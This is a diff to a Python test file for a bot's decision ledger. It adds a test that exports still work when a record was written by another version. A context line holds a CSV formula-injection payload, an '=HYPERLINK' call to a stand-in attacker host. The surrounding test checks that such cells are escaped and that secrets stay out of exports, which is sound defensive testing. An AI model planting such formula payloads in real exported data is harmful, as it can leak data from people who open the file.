@@ -11,10 +11,13 @@ import sys
 import tracemalloc
 from pathlib import Path
 
+from sqlalchemy import update
+
 from bot.core.actions import Decision, Usage
 from bot.core.subjects import Subject
 from bot.pipeline.store import Ledger, migrate, open_database
 from bot.pipeline.store.overview import Filter, Overview, as_csv, as_json
+from bot.pipeline.store.tables import DECISIONS
 
 
 def recorded(folder: Path, count: int, reason: str = "unclear") -> Overview:
@@ -51,6 +54,18 @@ def test_no_cell_starts_a_formula_and_no_secret_leaves(tmp_path: Path) -> None:
     (row,) = csv.DictReader(io.StringIO("".join(as_csv(overview, Filter(), ""))))
     assert row["reason"] == '\'=HYPERLINK("http://evil.example/REDACTED")'
     assert token not in "".join(as_json(overview, Filter(), ""))
+
+
+def test_a_decision_of_another_version_stops_no_export(tmp_path: Path) -> None:
+    overview = recorded(tmp_path, 2)
+    database = open_database(f"sqlite:///{tmp_path}/bouncer.db")
+    unreadable = update(DECISIONS).where(DECISIONS.c.number == 2).values(decision='{"kind": "of another time"}')
+    database.execute(unreadable)
+    rows = list(csv.DictReader(io.StringIO("".join(as_csv(overview, Filter(), "")))))
+    assert [(row["number"], row["verdict"], row["reason"]) for row in rows] == [
+        ("2", "CORRECT_AND_PRECISE", "another version of Bouncer wrote this"),
+        ("1", "CORRECT_AND_PRECISE", "unclear"),
+    ]
 
 
 def test_memory_does_not_grow_with_the_ledger(tmp_path: Path) -> None:
